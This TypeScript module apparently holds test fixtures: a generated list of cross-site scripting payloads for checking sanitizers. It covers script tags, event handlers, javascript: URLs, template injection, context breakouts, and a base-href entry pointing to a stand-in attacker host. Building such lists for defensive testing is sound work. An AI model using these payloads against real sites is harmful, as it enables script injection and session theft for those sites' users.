/** Script as people hide it in names and texts; each sets `window.__ran` or opens a dialog where a page runs it. */
const RUN = "window.__ran=1";

const EVENTS = ["error", "load", "mouseover", "focus", "toggle", "animationstart", "pointerenter", "begin"];

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__ran=1"></iframe>`,
  `<object data="data:text/html,<script>parent.__ran=1</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<style>@import 'data:text/css,*{display:none}'</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<video><source onerror=${RUN}></video>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  ...EVENTS.map((event) => `<img src=x on${event}=${RUN}>`),
  ...EVENTS.map((event) => `<svg/on${event}=${RUN}>`),
];

const OTHERS = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `');${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  "alert(document.domain)",
  `<img src=x onerror=alert(1)>`,
];

/** What one breaks out of: text, an attribute, a script, a comment, a title. */
const BEFORE = ["", '">', "'>", "</script>", "--></title></textarea>"];

export const SCRIPT_INJECTIONS: readonly string[] = BEFORE.flatMap((before) =>
  [...ELEMENTS, ...OTHERS].map((text) => before + text),
).slice(0, 200);
